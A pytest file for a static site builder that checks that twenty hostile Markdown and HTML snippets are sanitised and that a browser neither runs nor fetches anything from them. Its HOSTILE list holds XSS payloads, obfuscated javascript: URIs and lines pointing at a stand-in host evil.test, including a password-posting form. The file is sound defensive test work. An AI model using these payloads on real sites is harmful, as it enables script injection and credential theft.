"""Twenty hostile pieces of Markdown, published for real: no reader's browser runs or fetches any of it."""

from datetime import datetime
from html.parser import HTMLParser
from pathlib import Path

import pytest
from playwright.sync_api import Browser

from site_builder.building.build import build
from site_builder.published.headers import public_headers
from site_builder.published.words import OFFICE_ZONE

pytestmark = pytest.mark.long

NOW = datetime(2007, 5, 28, 10, 0, tzinfo=OFFICE_ZONE)
NOTICE = "notices/2007/key-points.md"
HOSTILE = (
    "<script>window.harmed=1</script>",
    "<img src=x onerror=window.harmed=1>",
    "<svg onload=window.harmed=1>",
    "<iframe srcdoc='<script>parent.harmed=1</script>'></iframe>",
    "<a href='javascript:window.harmed=1'>x</a>",
    "[x](javascript:window.harmed=1)",
    "[x](JaVaScRiPt:window.harmed=1)",
    "[x](java&#115;cript:window.harmed=1)",
    "[x](&#x6A;avascript:window.harmed=1)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:window.harmed=1)",
    '![x" onerror="window.harmed=1](x.png)',
    '[x](/guide/ "onmouseover=window.harmed=1")',
    "<style>body{background:url(http://evil.test/)}</style>",
    "<form action=http://evil.test/><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "## x {: onclick=window.harmed=1 style=position:fixed }",
    "`</code><script>window.harmed=1</script>`",
    "<object data=javascript:window.harmed=1></object><embed src=x><base href=http://evil.test/>",
)
SCHEMES = ("javascript:", "vbscript:", "data:")
PLAIN = frozenset(
    [
        "p",
        "a",
        "h1",
        "h2",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "div",
        "code",
        "img",
        "strong",
        "em",
        "ul",
        "ol",
        "li",
        "br",
        "span",
    ]
)


class Elements(HTMLParser):
    """What a browser would make of it: elements with their attributes, text apart."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def harmful(self) -> list[str]:
        return [
            f"<{tag} {attributes}>"
            for tag, attributes in self.found
            if tag not in PLAIN
            or any(name.startswith("on") or name == "style" for name in attributes)
            or any("".join(v.split()).lower().startswith(SCHEMES) for v in attributes.values())
        ]


def published(content: Path, tmp_path: Path, piece: str) -> str:
    """The page of a notice that holds that piece."""
    path = content / NOTICE
    path.write_text(f"{path.read_text(encoding='utf-8')}\n\n{piece}\n", encoding="utf-8")
    report = build(content, tmp_path / "output", NOW)
    if not report.ok:
        assert any(each.file.endswith(NOTICE) for each in report.problems)
        return ""
    page = tmp_path / "output" / "current" / "notices" / "2007" / "key-points" / "index.html"
    return page.read_text(encoding="utf-8")


@pytest.mark.parametrize("piece", HOSTILE)
def test_a_hostile_piece_is_words_or_is_refused(content: Path, tmp_path: Path, piece: str) -> None:
    html = published(content, tmp_path, piece)

    body = html.partition('id="main"')[2].partition('role="contentinfo"')[0]
    assert Elements(body).harmful() == []


@pytest.mark.browser
def test_all_of_them_together_run_nothing_and_fetch_nothing_in_a_browser(
    content: Path, tmp_path: Path, chromium: Browser
) -> None:
    sound = [piece for piece in HOSTILE if "x.png" not in piece]
    html = published(content, tmp_path, "\n\n".join(each for each in sound if "](" not in each))
    page = chromium.new_page()
    fetched: list[str] = []
    told: list[str] = []
    page.on("console", lambda message: told.append(message.text))

    def answer(route) -> None:  # type: ignore[no-untyped-def]
        fetched.append(route.request.url)
        if route.request.url == "http://site.test/":
            route.fulfill(body=html, headers=public_headers("/index.html", 60))
        else:
            route.abort()

    page.route("**/*", answer)
    page.goto("http://site.test/")

    harmed = page.evaluate("window.harmed")
    page.close()
    assert html and harmed is None
    assert [url for url in fetched if not url.startswith("http://site.test/")] == []
    assert [each for each in told if "Content Security Policy" in each] == []
